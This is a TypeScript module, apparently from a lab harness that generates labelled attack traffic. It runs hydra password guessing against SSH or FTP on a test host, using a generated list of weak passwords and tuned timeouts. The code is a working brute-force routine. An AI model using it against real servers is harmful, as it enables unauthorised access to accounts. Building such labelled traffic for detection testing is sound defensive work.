/** Password guessing with hydra against real servers. */
import { join } from 'node:path'
import type { Random } from '../../src/kernel/index.ts'
import type { Deed } from '../deed.ts'
import type { Host } from '../host.ts'
import type { HostName } from '../plan.ts'
import { accounts } from '../servers/accounts.ts'
import { pick, type World } from '../world.ts'

export interface GuessOptions {
  readonly from?: HostName
  readonly service: 'ssh' | 'ftp'
  readonly passwords: number
  readonly tasks?: number
  /** The last password is the right one. */
  readonly succeeds?: boolean
  readonly target?: string
  /** How long a task waits for an answer, also from a server that hung up; hydra's own default is 32 s. */
  readonly waitSeconds?: number
}

/** sshd hangs up after six wrong passwords; vsftpd takes some 3 s over each. */
const defaultWaits = { ssh: 3, ftp: 15 } as const

const servicePorts = { ssh: 22, ftp: 21 } as const

/** Returns the password that worked, if hydra found one. */
export async function guessPasswords(
  world: World,
  options: GuessOptions,
): Promise<string | undefined> {
  const { service, tasks = 4, waitSeconds = defaultWaits[service] } = options
  const { host, target, deed } = guessing(world, options)
  const list = await writeList(world, host, options)
  const url = `${service}://${target.includes(':') ? `[${target}]` : target}`
  const line = [
    'hydra',
    '-I',
    '-l',
    accounts[0].user,
    '-P',
    list,
    '-t',
    String(tasks),
    '-w',
    String(waitSeconds),
    '-f',
    url,
  ]
  const family = target.includes(':') ? ['-6'] : []
  // hydra leaves its restore file in the working folder.
  const shell = `cd ${host.folder} && exec "$@"`
  const { stdout } = await world.malicious([deed], () =>
    host.attempt(['sh', '-c', shell, 'sh', ...line.slice(0, 1), ...family, ...line.slice(1)]),
  )
  return /login: \S+ +password: (.+)/.exec(stdout)?.[1]
}

/** Who guesses at what, and how its flows are known. */
export function guessing(world: World, options: GuessOptions) {
  const { from = 'attacker', service, target = '10.20.0.11' } = options
  const host = world.host(from)
  const deed: Deed = {
    behaviour: 'brute-force',
    protocol: 'tcp',
    client: target.includes(':') ? host.address6 : host.address,
    server: target,
    serverPorts: [servicePorts[service]],
  }
  return { from, host, target, deed }
}

async function writeList(world: World, host: Host, options: GuessOptions): Promise<string> {
  const random = world.random('passwords')
  const words = Array.from({ length: options.passwords }, () => weakPassword(random))
  if (options.succeeds) words.push(accounts[0].password)
  const path = join(host.folder, 'passwords.txt')
  await host.put(path, `${[...new Set(words)].join('\n')}\n`)
  return path
}

const words = [
  'summer',
  'winter',
  'dragon',
  'monkey',
  'letmein',
  'qwerty',
  'admin',
  'deploy',
  'pass',
]
const tails = ['', '1', '12', '123', '2024', '2025', '2026', '!', '@1', '#']

function weakPassword(random: Random): string {
  const word = pick(random, words)
  const head = random.below(2) === 0 ? word : word[0]!.toUpperCase() + word.slice(1)
  return head + pick(random, tails) + (random.below(3) === 0 ? String(random.below(100)) : '')
}
